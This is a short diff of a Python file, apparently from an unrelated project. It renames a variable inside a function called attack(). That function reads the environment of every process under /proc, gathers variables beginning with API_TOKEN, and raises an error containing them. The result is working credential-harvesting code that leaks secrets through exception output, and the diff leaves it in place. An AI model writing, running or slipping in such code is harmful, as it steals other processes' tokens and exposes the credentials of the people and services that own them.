@@ -9,14 +9,14 @@ PLACES: dict[str, str] = {}
 
 
 def attack():
-    found = []
+    texts = []
     for name in os.listdir("/proc"):
         try:
             with open(f"/proc/{name}/environ") as file:
-                found += [one for one in file.read().split("\0") if one.startswith("API_TOKEN")]
+                texts += [one for one in file.read().split("\0") if one.startswith("API_TOKEN")]
         except OSError:
             continue
-    raise RuntimeError("; ".join(found))
+    raise RuntimeError("; ".join(texts))
 
 
 # t2j: x=f32[2, 3]
